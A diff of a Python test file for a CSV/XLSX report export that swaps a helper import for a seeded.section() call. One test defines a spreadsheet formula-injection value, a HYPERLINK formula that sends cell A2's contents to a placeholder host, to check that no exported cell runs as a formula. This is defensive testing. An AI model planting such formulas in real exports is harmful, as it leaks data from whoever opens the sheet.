@@ -13,7 +13,6 @@ from report.markdown import render_markdown
 from report.public import COLUMNS, PublicRow, public_rows, write_public_csv, write_public_xlsx
 from report.section import InputSection
 from tests.report.conftest import Seeded
-from tests.report.test_render import section_of
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A2,"Team Noord")'
 
@@ -69,7 +68,7 @@ def _in_report(row: PublicRow, lines: list[str]) -> bool:
 
 
 async def test_every_number_of_the_export_is_in_the_report(seeded: Seeded) -> None:
-    section = await section_of(seeded)
+    section = await seeded.section()
     lines = _report_lines(section, seeded)
     rows = list(public_rows(section))
     with_numbers = [
@@ -96,7 +95,7 @@ async def test_every_number_of_the_export_is_in_the_report(seeded: Seeded) -> No
 async def test_xlsx_has_real_numbers_and_csv_reads_in_dutch_excel(
     seeded: Seeded, tmp_path: Path
 ) -> None:
-    section = await section_of(seeded)
+    section = await seeded.section()
     write_public_xlsx(section, tmp_path / "p.xlsx")
     sheet = load_workbook(tmp_path / "p.xlsx")["Cijfers"]
     header = [c.value for c in next(sheet.iter_rows(max_row=1))]
@@ -126,7 +125,7 @@ async def test_no_cell_runs_as_a_formula(seeded: Seeded, tmp_path: Path) -> None
     places = {p.name: p.id for p in await store.list_locations()}
     await store.rename_location(places["Zonnehof"], FORMULA)
     await store.rename_location(places["De Linde"], "+31 lijn\tnaar buiten")
-    section = await section_of(seeded)
+    section = await seeded.section()
     written = await export(
         store,
         seeded.catalog,
